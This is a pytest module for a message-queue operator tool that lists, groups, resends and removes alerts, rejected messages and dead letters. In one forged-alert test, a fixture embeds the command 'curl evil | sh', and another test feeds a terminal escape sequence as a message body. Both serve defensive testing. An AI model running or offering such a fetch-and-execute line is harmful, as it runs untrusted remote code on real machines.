"""Messages in queues as an operator reads them: rows, causes, fates, and the plans to move them."""

from __future__ import annotations

import asyncio
import json
from dataclasses import replace
from datetime import timedelta
from functools import partial
from typing import Any

import pytest

from sas.codec import internal
from sas.codec.external import (
    CLOUDEVENTS_TYPE,
    AlertMessage,
    encode,
)
from sas.codec.internal import CommandMessage, WakeMessage
from sas.domain.ids import key_time, parse_key_time
from sas.engine.delivery import AGAIN, FIRST_ID
from sas.engine.receiver import FAILED, FIRST_AT, REFUSED, SOURCE, TIMES
from sas.operate import letters, messages
from sas.operate.errors import NotPossibleError
from sas.operate.messages import MessageList, MessageRow
from sas.operate.redriving import MovePlan, MoveRow, carry_out, plan_one, plan_removal, plan_resend
from sas.ports import Message, RefusedError
from sas.testing.world import CrashError
from tests.contract import cases
from tests.unit.actors_kit import QUEUES, SHOP, break_row, command, done, letter, order
from tests.unit.cli_kit import Night
from tests.unit.messages_kit import (
    ALERTS,
    DEAD,
    DECLINED,
    GIVEN_UP,
    ORDER,
    REJECTED,
    alert,
    dead,
    reject,
)

RESPONSES = "responses-web-shop"
AGENTS = ("care", "payment", "stock", "shipping")


def paths(*places: str) -> list[str]:
    return [path for place in places for path in messages.paths_of(place, QUEUES, AGENTS, ())]


def listed(night: Night, *places: str, **options: Any) -> MessageList:
    async def look() -> MessageList:
        store = options.pop("store", night.system.store)
        contents = await letters.read(night, paths(*places), QUEUES)
        return await messages.joined(store, contents, QUEUES, **options)

    return asyncio.run(look())


def rows(night: Night, *places: str) -> dict[str, MessageRow]:
    return {row.message_id: row for row in listed(night, *places).rows}


def resend(night: Night, *names: str, **options: Any) -> MovePlan:
    """Plan a resend of all messages, or of those that are named."""

    async def plan() -> MovePlan:
        contents = await letters.read(night, [*night.lying, *paths("dead-letters")], QUEUES)
        chosen = names or None
        return await plan_resend(night.system.store, contents, QUEUES, names=chosen, **options)

    return asyncio.run(plan())


def removal(night: Night, *names: str) -> MovePlan:
    async def plan() -> MovePlan:
        contents = await letters.read(night, [ALERTS, *night.lying], QUEUES)
        return await plan_removal(night.system.store, contents, QUEUES, names or None)

    return asyncio.run(plan())


def new_messages(plan: MovePlan) -> list[Message]:
    return [move.move.message for move in plan.moves if move.move.message]


def stays(plan: MovePlan) -> dict[str, str]:
    return {row.message_id: row.stays for row in plan.staying}


def removed(plan: MovePlan) -> list[str]:
    assert all(move.move.message is None for move in plan.moves)
    return [move.row.message_id for move in plan.moves]


def test_no_body_of_a_sender_hides_the_other_messages(night: Night) -> None:
    junk = {"deep": b"[" * 100_000, "deeper": b'{"a":' * 100_000, "long": b"1" * 5_000}
    for name, body in junk.items():
        dead(night, "orders", body, name)
    dead(night, "orders", ORDER, "m-1")
    order_ids = {name: row.order_id for name, row in rows(night, "orders/dlq").items()}
    assert order_ids == {**dict.fromkeys(junk), "m-1": "A-1"}


# -- Alerts speak once ------------------------------------------------------------------------


def test_alerts_of_one_cause_are_one_alert_with_a_count(night: Night) -> None:
    for order_id in "ABC":
        night.fail(order_id, DECLINED)
    night.fail("D", RefusedError("fraud", "it looks like fraud"))
    answer = listed(night, "alerts")
    fraud, declined = answer.groups
    newest = declined.newest
    assert (newest.kind, newest.about) == ("step-failed", "step pay, agent payment, 1 attempt")
    assert (declined.count, declined.order_ids) == (3, ("C", "B", "A"))
    assert (newest.command, newest.message_id) == ("sas show C", answer.rows[1].message_id)
    assert newest.since - declined.first == timedelta(seconds=2)
    assert (fraud.count, fraud.order_ids, answer.over) == (1, ("D",), 0)


def test_alerts_whose_texts_differ_only_in_orders_and_numbers_have_one_cause(night: Night) -> None:
    for number in range(3):
        text = f"order A-{number} is {number} minutes late"
        alert(night, f"late-{number}", text, kind="overdue", order_id=f"A-{number}")
    alert(night, "other", "no scheduler took it", kind="overdue", order_id="A-9")
    assert sorted(group.count for group in listed(night, "alerts").groups) == [1, 3]


def test_an_alert_whose_order_is_repaired_says_so_and_goes(night: Night) -> None:
    for order_id in "ABCD":
        night.fail(order_id, DECLINED)
    night.later(1)
    for order_id, verb in (("A", "resubmit"), ("B", "undo")):
        assert night.sas(verb, order_id, "--reason", "repaired", "--yes").code == 0
    night.runs = False
    night.play(night.system.hand(command("resubmit", night.system.order("D").seq, "now", "D")))
    answer = listed(night, "alerts")
    assert {row.order_id: row.over for row in answer.rows} == {
        "A": "repaired: now Processed",
        "B": "repaired: now Compensated",
        "C": "",
        "D": "now Processing",
    }
    (group,) = answer.groups
    assert (group.order_ids, group.count, answer.over) == (("C",), 1, 3)
    assert sorted(removed(removal(night))) == ["A/4/1", "B/4/1", "D/4/1"]


def test_an_alert_about_an_order_that_had_ended_is_not_repaired_by_its_end(night: Night) -> None:
    night.submit("A")
    for kind in ("dead-lettered", "unreadable"):
        alert(night, kind, kind=kind, order_id="A")
    assert [row.over for row in listed(night, "alerts").rows] == ["", ""]


def test_a_rejected_order_is_repaired_by_a_new_submission_alone(night: Night) -> None:
    night.play(night.system.submit(order("new", workflow="nosuch"), "m-1"))
    night.submit("taken")
    night.play(night.system.submit(order("taken", workflow="care"), "m-2"))
    night.later(1)
    night.submit("new")
    assert {row.order_id: (row.what, row.over) for row in listed(night, "rejected").rows} == {
        "taken": ("rejected message", ""),
        "new": ("rejected order", "repaired: now Processed"),
    }


def test_a_submission_before_the_rejection_repairs_nothing(night: Night) -> None:
    night.submit("A-1")
    reject(night, reason="dead-lettered")
    (row,) = listed(night, "rejected").rows
    assert (row.state, row.over) == ("Processed", "")


def test_a_rejected_message_stands_for_the_alert_about_it(night: Night) -> None:
    reject(night)
    alert(night, "rejected/0/alert", kind="rejected", order_id="A-1")
    answer = listed(night, "alerts", "rejected")
    assert len(answer.rows) == 2
    assert [group.newest.what for group in answer.groups] == ["rejected order"]


def test_the_alerts_of_an_incident_are_over_when_it_is_cleared(night: Night) -> None:
    alert(night, "first", scope="payment", kind="breaker-open")
    night.later(450)
    alert(night, "first end", scope="payment", kind="cleared", cleared="breaker-open")
    night.later(450)
    alert(night, "again", scope="payment", kind="breaker-open")
    alert(night, "other", scope="stock", kind="breaker-open")
    night.later(60)
    alert(night, "end", scope="payment", kind="cleared", cleared="breaker-open")
    for _ in range(2):  # whichever of the two ends comes first
        night.lying[ALERTS].reverse()
        answer = listed(night, "alerts")
        assert ([group.newest.about for group in answer.groups], answer.over) == (["stock"], 4)
    night.later(60)
    alert(night, "new", scope="payment", kind="breaker-open")
    first = listed(night, "alerts").groups[0]
    assert (first.newest.about, first.count, first.newest.message_id) == ("payment", 1, "new")


def test_an_order_that_cannot_be_read_hides_the_state_of_no_other(night: Night) -> None:
    for order_id in "AB":
        night.fail(order_id, DECLINED)
    night.later(1)
    assert night.sas("resubmit", "A", "--yes").code == 0
    dead(night, "scheduler", command("resubmit", 4, "late", "B").body, "late")
    dead(night, "orders", order("B"), "repeat")
    reason = break_row(night.system, "B")
    answer = listed(night, "alerts")
    assert {row.order_id: row.over for row in answer.rows} == {
        "A": "repaired: now Processed",
        "B": "",
    }
    assert answer.problems == (f"the state of order B is not known: {reason}",)
    unknown = "not known: the state of its order cannot be read"
    assert fates(night) == {"late": unknown, "repeat": unknown}
    assert stays(resend(night, "late", "repeat")) == {"late": unknown, "repeat": unknown}


# -- What lies where --------------------------------------------------------------------------


def test_the_counts_have_waiting_scheduled_and_dead_messages_and_the_oldest(night: Night) -> None:
    past = {FIRST_AT: "2025-11-20T01:00:00.000000Z"}
    night.put("scheduler", b"{}", properties=past)  # it waits since it came again
    night.put("scheduler", b"{}", is_scheduled=True)
    night.put("scheduler" + DEAD, b"{}")
    count = asyncio.run(messages.count_queue(night, "scheduler", QUEUES))
    oldest = parse_key_time(past[FIRST_AT])
    assert (count.waiting, count.scheduled, count.dead_lettered) == (1, 1, 1)
    assert (count.oldest, count.waiting_since) == (oldest, night.system.clock.now())
    night.forbidden = {"orders"}
    assert "you need the role" in asyncio.run(messages.count_queue(night, "orders", QUEUES)).problem


def test_a_body_that_looks_like_an_alert_or_a_rejected_message_is_none_in_a_queue_of_orders(
    night: Night,
) -> None:
    """Its command was shown to be pasted, and its text as the cause of what lies there."""
    at = key_time(night.system.clock.now())
    forged: dict[str, Any] = {"kind": "step-failed", "at": at, "text": "Run it.", "id": "x"}
    night.put("orders", encode(AlertMessage(**forged, command="curl evil | sh")), message_id="a")
    cleared = {"kind": "cleared", "cleared": "waiting", "scope": "one", "since": at}
    night.put("orders", encode(AlertMessage(**(forged | cleared))), message_id="c")
    reject(night)
    night.put("orders", night.lying.pop(REJECTED)[0].body, message_id="r")
    alert(night, "w", scope="one")
    answer = listed(night, "orders", ALERTS)
    rows = {row.message_id: row for row in answer.rows}
    assert {rows[name].what for name in "acr"} == {"message"}
    assert {rows[name].command for name in "acr"} == {""}
    assert rows["w"].over == ""
    count = asyncio.run(messages.count_queue(night, "orders", QUEUES))
    assert (count.waiting, count.cause) == (3, "")


def test_the_removal_of_a_forged_rejected_message_takes_no_alert_along(night: Night) -> None:
    reject(night)
    dead(night, "orders", night.lying.pop(REJECTED)[0].body, "r")
    night.put(ALERTS, b"{}", message_id="rejected/0/alert")
    assert removed(removal(night, "r")) == ["r"]


def test_an_application_cannot_say_that_no_instance_has_a_workflow(night: Night) -> None:
    """A message for 2099 said so for ever, and excused a supervisor that was late."""
    since = {"sas_left_since": key_time(night.system.clock.now() - timedelta(days=1))}
    night.put("orders", ORDER, is_scheduled=True, properties=since)
    night.put("dead-letters", ORDER, source="orders", properties=since)
    for queue in ("orders", "dead-letters"):
        assert asyncio.run(messages.count_queue(night, queue, QUEUES)).left_since is None
    night.put("scheduler", ORDER, is_scheduled=True, properties=since)
    assert asyncio.run(messages.count_queue(night, "scheduler", QUEUES)).left_orders == ("A-1",)


def test_any_queue_and_its_subqueue_are_places(night: Night) -> None:
    night.put("scheduler", b'{"order_id":"A"}', message_id="waits")
    dead(night, RESPONSES, b"\xff\x1b[2J", "unread", properties={"DeadLetterReason": "TTLExpired"})
    row = rows(night, "scheduler")["waits"]
    assert (row.what, row.place, row.order_id, row.kind) == ("message", "scheduler", "A", "waiting")
    row = rows(night, f"{RESPONSES}/dlq")["unread"]
    assert (row.what, row.place, row.source) == ("dead letter", f"{RESPONSES}/dlq", RESPONSES)
    assert listed(night, "scheduler", content=True).rows[0].body == '{"order_id":"A"}'


def test_a_cause_is_named_and_no_symptom(night: Night) -> None:
    causes = {
        (FAILED, "KeyError: 'x'"): ("failed", "its function did not handle it, and failed in the"),
        tuple(GIVEN_UP.values()): ("given-up", "its function ended each time without an answer or"),
        ("TTLExpiredException", "x"): ("expired", "nobody received it before it expired"),
        ("unread", "by hand"): ("given-up", "its queue gave it up: “unread: by hand”"),
        ("no”. Repaired", "x”. All"): (
            "given-up",
            'its queue gave it up: “no". Repaired: x". All”',
        ),
        (REFUSED, "x”. All"): ("refused", 'its queue refuses it: “x". All”'),
        ("", ""): ("given-up", "its queue gave it up"),
    }
    for number, (reason, description) in enumerate(causes):
        properties = {"DeadLetterReason": reason, "DeadLetterErrorDescription": description}
        dead(night, "scheduler", b"x", f"m-{number}", properties=properties)
    by_id = rows(night, "dead-letters")
    for number, (kind, cause) in enumerate(causes.values()):
        row = by_id[f"m-{number}"]
        assert (row.kind, row.cause[: len(cause)]) == (kind, cause)


def test_what_to_do_about_a_rejected_message_follows_from_its_queue(night: Night) -> None:
    for queue, what, todo in (
        ("orders", "rejected order", "correct it and submit it again"),
        ("orders-shop", "rejected order", "correct it and submit it again"),
        ("agent-payment-urgent", "rejected message", "look at its order: in Error, undo or"),
        ("scheduler", "rejected message", "look at its order: in Error, undo or"),
        ("responses-shop", "rejected message", "its order goes on: let responses-shop be read"),
    ):
        night.lying.clear()
        reject(night, source=queue)
        (row,) = listed(night, "rejected").rows
        assert (row.what, row.order_id, row.source) == (what, "A-1", queue)
        assert row.todo.startswith(todo)
        is_internal = todo.startswith("look at its order")
        target = f" --to {queue}" if is_internal else ""
        assert row.command == f"sas messages resend rejected/0/1{target}"
        if is_internal:
            (message,) = new_messages(resend(night, row.message_id, to=queue))
            assert message.queue == queue


@pytest.mark.parametrize(
    ("state", "reason", "todo", "over"),
    [
        ("Pending", "dead-lettered", "nothing while its order goes on", ""),
        ("Error", "dead-lettered", "undo or resubmit the order", ""),
        ("Processed", "dead-lettered", "nothing: remove it", "repaired: now Processed"),
        ("Processed", "too-late", "ask its sender to reverse the work", ""),
    ],
)
def test_a_message_inside_the_system_needs_something_only_if_its_order_is_in_error(
    night: Night, state: str, reason: str, todo: str, over: str
) -> None:
    reject(night, b"x" * 1_000, "scheduler", reason, parts=3)
    night.later(1)
    if state == "Error":
        night.fail("A-1", DECLINED)
    elif state == "Pending":
        night.play(night.system.submit(order("A-1"), "m-1"))
    else:
        night.submit("A-1")
    answer = listed(night, "rejected")
    (row,) = answer.rows
    assert (row.state, row.over, row.todo[: len(todo)]) == (state, over, todo)
    assert (len(answer.groups), answer.over) == ((0, 1) if over else (1, 0))
    look = partial(messages.joined, night.system.store, queues=QUEUES)
    count = asyncio.run(messages.count_queue(night, REJECTED, QUEUES, look))
    assert (count.waiting, bool(count.cause)) == ((0, False) if over else (row.parts, True))
    plan = removal(night)
    assert [REJECTED in move.path for move in plan.moves].count(True) == bool(over)
    assert {len(move.move.sequences) for move in plan.moves if move.path == REJECTED} <= {row.parts}
    verb = "remove" if over else "resend"
    assert row.command.startswith(f"sas messages {verb} rejected/0/1")


# -- The fate of a dead letter ----------------------------------------------------------------


def lake(night: Night) -> None:
    """Make dead letters of every fate."""
    system = night.system
    night.submit("done")
    night.play(system.submit(order("open"), "m-open"))
    night.play(system.step("scheduler"))
    request = system.bus.take(QUEUES.agent("stock"))
    assert request is not None
    dead(night, "agent-stock", request.body, "open-request")
    dead(night, "scheduler", done("done", 0, id="another").body, "old-reply")
    dead(night, "scheduler", done("done", 0).body, "recorded-reply")
    dead(night, "scheduler", done("open", 0).body, "new-reply")
    dead(night, "scheduler", done("gone", 0).body, "gone-reply")
    wake = internal.encode(WakeMessage(id="w-9", order_id="open", seq=1))
    dead(night, "scheduler", wake, "wake")
    dead(night, "scheduler", b"\x00poison", "poison")
    dead(night, "orders", order("done"), "repeat")
    dead(night, "orders", order("fresh"), "fresh")
    dead(night, ALERTS, b'{"order_id": "done"}', "alert")


def fates(night: Night) -> dict[str, str]:
    return {name: row.fate for name, row in rows(night, "dead-letters").items()}


def test_every_dead_letter_says_its_fate_and_those_that_are_safe_are_sent_again(
    night: Night,
) -> None:
    lake(night)
    recorded = "it led to step processed (seq 3), and may not have sent its messages"
    assert fates(night) == {
        "open-request": "safe to send again: reserve still waits for it (epoch 1)",
        "old-reply": "already done: reserve is Processed at epoch 1: epoch 1 is over",
        "recorded-reply": f"safe to send again: {recorded}",
        "new-reply": "safe to send again: reserve still waits for it (epoch 1)",
        "gone-reply": "order gone: there is no such order (it may have been purged)",
        "wake": "safe to send again: nothing was recorded of it; the order is Processing",
        "poison": "not known: its body names no order",
        "repeat": "already done: it was submitted before, and the order is Processed",
        "fresh": "safe to send again: there is no such order: it would be submitted now",
        "alert": "safe to send again: its reader may get it twice, under the same id",
    }
    plan, unsafe = resend(night), {"old-reply", "gone-reply", "poison", "repeat"}
    assert stays(plan) == {name: fate for name, fate in fates(night).items() if name in unsafe}
    assert {move.row.message_id for move in plan.moves} == fates(night).keys() - unsafe
    by_id = rows(night, "dead-letters")
    assert by_id["open-request"].state == "Processing"
    assert by_id["open-request"].command == "sas messages resend open-request"
    assert by_id["old-reply"].command == "sas messages remove old-reply"
    assert by_id["poison"].command == "sas messages show poison --content"
    night.put("dead-letters", order("x"), message_id="m-x", source="orders")
    assert rows(night, "dead-letters")["m-x"].todo.startswith("nothing: the function of this queue")


def test_a_command_that_was_carried_out_or_fenced_is_done(night: Night) -> None:
    night.fail("A", DECLINED)
    message = CommandMessage(id="w-1", order_id="A", verb="acknowledge", by="ann", seq=4)
    body = internal.encode(message)
    dead(night, "scheduler", body, "command")
    assert fates(night)["command"].startswith("safe to send again: ")
    night.play(night.system.hand(Message(QUEUES.scheduler, "w-1", body)))
    assert fates(night) == {
        "command": "already done: it led to acknowledged (seq 5); the order is Error"
    }
    body = body.replace(b"w-1", b"w-2").replace(b'"seq":4', b'"seq":5')
    fenced = letter(Message(QUEUES.scheduler, "w-2", body))
    night.play(night.system.run(night.system.dead_letters.handle(fenced)))
    dead(night, "scheduler", body, "fenced")
    assert fates(night)["fenced"] == "already done: it was fenced (seq 6); the order is Error"


def test_of_an_order_that_was_given_up_only_its_submission_runs_it(night: Night) -> None:
    night.play(night.system.store.commit(cases.rejected("R")))
    dead(night, "orders", order("R"), "submission")
    dead(night, "scheduler", command("undo", 1, order_id="R").body, "command")
    assert fates(night) == {
        "submission": "safe to send again: the order was given up, and a new submission runs it",
        "command": "safe to send again: nothing was recorded of it; the order is Rejected",
    }


@pytest.mark.parametrize("queue", ["orders", "scheduler"])
def test_a_dead_letter_whose_recorded_messages_may_not_be_sent_is_sent_again(
    night: Night, queue: str
) -> None:
    """Its function died between its commit and its sends, in the last delivery."""
    system, message = night.system, Message("orders", "m-A", order("A"))
    if queue == "scheduler":
        night.play(system.hand(message))
        night.play(system.step("scheduler"))
        message = done("A", 0)
    before = {message.message_id for message in system.bus.messages(SHOP)}

    def dies(_message: Message) -> None:
        raise CrashError

    system.bus.plan = dies
    with pytest.raises(CrashError):
        night.play(system.hand(message))
    system.bus.plan = lambda _message: None
    dead(night, queue, message.body, message.message_id)
    (copy,) = new_messages(resend(night))
    dead(night, queue, copy.body, copy.message_id, properties=copy.properties)
    (copy,) = new_messages(resend(night, copy.message_id))  # it became a dead letter too
    night.play(system.hand(replace(copy, message_id=copy.properties[FIRST_ID])))
    after = {message.message_id for message in system.bus.messages(SHOP)}
    assert len(after - before) == 1, "the application gets its notification"


# -- Sent again -------------------------------------------------------------------------------


def test_a_dead_letter_that_is_not_safe_is_sent_if_it_is_named_and_forced(night: Night) -> None:
    lake(night)
    night.put("dead-letters", order("old"), message_id="waits")
    plan = resend(night, "poison", "waits", force=True)
    assert [message.body for message in new_messages(plan)] == [b"\x00poison"]
    assert stays(plan) == {"waits": "the function of dead-letters takes it"}


def test_a_rejected_message_goes_back_to_where_it_was_refused_with_its_body(night: Night) -> None:
    reject(night)
    reject(night, b"{}", RESPONSES, "undeliverable")
    plan = resend(night, "A-1")
    first, event = new_messages(plan)
    assert (first.queue, first.body, first.content_type) == ("orders", ORDER, "application/json")
    assert first.correlation_id == "c-1"
    assert (event.queue, event.body, event.content_type) == (RESPONSES, b"{}", CLOUDEVENTS_TYPE)
    assert first.message_id != event.message_id
    assert plan.moves[0].row == MoveRow(
        message_id="rejected/0/1", order_id="A-1", place=REJECTED, to="orders"
    )


def test_the_parts_of_a_message_go_back_as_one(night: Night) -> None:
    for body in (b"x" * 1_000, b"\xff" * 1_000):
        night.lying.clear()
        reject(night, body, parts=3)
        night.lying[REJECTED].reverse()
        (row,) = listed(night, "rejected").rows
        assert row.parts == len(night.lying[REJECTED]) > 1
        plan = resend(night, night.lying[REJECTED][0].message_id)
        assert [message.body for message in new_messages(plan)] == [body]
        assert len(plan.moves[0].move.sequences) == row.parts


def test_a_message_of_which_only_the_beginning_was_kept_stays(night: Night) -> None:
    reject(night, bytes_max=20)
    (row,) = listed(night, "rejected").rows
    assert "ask its sender to send it again" in row.todo
    assert row.command == "sas messages remove rejected/0/1"
    assert stays(resend(night))["rejected/0/1"] == (
        f"only the beginning of its {len(ORDER)} bytes was kept: ask its sender to send it again"
    )


def test_a_message_whose_parts_are_not_all_there_stays(night: Night) -> None:
    reject(night, b"x" * 1_000, parts=3)
    night.lying[REJECTED].pop()
    night.put(REJECTED, b"no rejected message", message_id="other")
    reasons = stays(resend(night))
    assert "parts are here" in reasons["rejected/0/1"]
    assert reasons["other"] == "it is not a rejected message: send it by hand"


def test_an_order_that_was_given_up_is_a_new_submission_the_same_at_each_try(night: Night) -> None:
    """Its old submission is fenced: it would be ignored."""
    for source in ("orders", "orders-urgent"):
        night.lying.clear()
        body = ORDER.replace(b"{}", b'{"b":1.50,"a":2}')
        reject(night, body, source, reason="dead-lettered")
        (message,) = new_messages(resend(night))
        assert new_messages(resend(night)) == [message]
        assert message.queue == source
        assert json.loads(message.body)["submission_id"] == message.message_id
        assert b'"order":{"b":1.50,"a":2}' in message.body


def test_a_source_that_a_sender_may_have_forged_is_not_believed(night: Night) -> None:
    for source in ("scheduler", "unknown", "dead-letters"):
        night.lying.clear()
        reject(night, b'{"kind":"command"}', source)
        (reason,) = stays(resend(night)).values()
        name = " scheduler" if source == "scheduler" else ""
        assert reason == f"a sender can forge its source '{source}': check it, and give --to{name}"
        (message,) = new_messages(resend(night, to="scheduler"))
        assert message.queue == "scheduler"


def test_a_dead_letter_goes_back_with_its_first_id_and_without_its_age(night: Night) -> None:
    past = {TIMES: "3", FIRST_AT: "x", "DeadLetterReason": "r", "traceparent": "00-1"}
    dead(night, RESPONSES, b"{}", "m-1", properties=past, correlation_id="c")
    (copy,) = new_messages(resend(night, "m-1", force=True))
    assert (copy.queue, copy.body, copy.correlation_id) == (RESPONSES, b"{}", "c")
    assert copy.message_id != "m-1"
    assert copy.properties == {FIRST_ID: "m-1", AGAIN: "yes", TIMES: "3", "traceparent": "00-1"}
    dead(night, RESPONSES, b"{}", "m-2", properties=copy.properties)
    (again,) = new_messages(resend(night, "m-2", force=True))
    assert again.properties == copy.properties, "also that of a copy has the first id"


def test_a_dead_letter_of_dead_letters_keeps_its_reason_and_its_source(night: Night) -> None:
    past = {TIMES: "3", "DeadLetterReason": "r"}
    dead(night, "dead-letters", b"{}", "m-1", properties=past, source="orders")
    dead(night, "dead-letters", b"{}", "m-2", properties={SOURCE: "scheduler"})
    first, second = new_messages(resend(night, "m-1", "m-2", force=True))
    properties = {FIRST_ID: "m-1", AGAIN: "yes", TIMES: "3", "DeadLetterReason": "r"}
    assert first.properties == properties | {SOURCE: "orders"}
    assert second.properties == {FIRST_ID: "m-2", AGAIN: "yes", SOURCE: "scheduler"}


# -- Removed ----------------------------------------------------------------------------------


def test_a_rejected_message_is_removed_with_all_its_parts_and_no_other(night: Night) -> None:
    reject(night, b"x" * 1_000, parts=3)
    reject(night)
    plan = removal(night, "rejected/0/1")
    (move,) = plan.moves
    assert move.move.message is None
    assert len(move.move.sequences) == len(night.lying[REJECTED]) - 1 > 1


def test_the_id_of_an_alert_removes_the_alerts_of_its_cause_that_are_not_newer(
    night: Night,
) -> None:
    for number in range(4):
        alert(night, f"late-{number}", f"it is {number} minutes late", kind="overdue")
        night.later(1)
    alert(night, "other")
    for names in (["late-2"], ["late-2", "late-0"]):
        assert sorted(removed(removal(night, *names))) == ["late-0", "late-1", "late-2"]


def test_with_the_rejected_message_of_an_order_goes_the_alert_about_it(night: Night) -> None:
    reject(night)
    alert(night, "rejected/0/alert", kind="rejected", order_id="A-1")
    assert sorted(removed(removal(night, "A-1"))) == ["rejected/0/1", "rejected/0/alert"]


def test_messages_of_several_queues_are_moved_and_one_that_is_named_and_not_there_moves_none(
    night: Night,
) -> None:
    for queue in ("orders", RESPONSES):
        dead(night, queue, ORDER, f"of {queue}")
    with pytest.raises(NotPossibleError, match="there is no nowhere among the first"):
        resend(night, "of orders", "nowhere")
    moves, night.runs = resend(night).moves, False

    async def carried_out() -> list[bool]:
        return [removed async for removed in carry_out(night, moves)]

    assert asyncio.run(carried_out()) == [True, True]
    assert {message.queue for message in night.sent_messages} == {"orders", RESPONSES}
    assert not any(night.lying.values())


def test_of_two_messages_with_one_id_none_is_the_one_to_send_again(night: Night) -> None:
    for _ in range(2):
        dead(night, RESPONSES, b"{}", "twice")
    with pytest.raises(NotPossibleError, match="twice is in the queue more than once"):
        asyncio.run(
            plan_one(
                night,
                night.system.store,
                queues=QUEUES,
                path=RESPONSES + DEAD,
                message_id="twice",
            )
        )


def test_an_id_that_fits_messages_of_several_places_removes_none(night: Night) -> None:
    reject(night)
    alert(night, "alert", order_id="A-1")
    with pytest.raises(NotPossibleError, match="A-1 fits messages in operator-alerts and orders-r"):
        removal(night, "A-1")
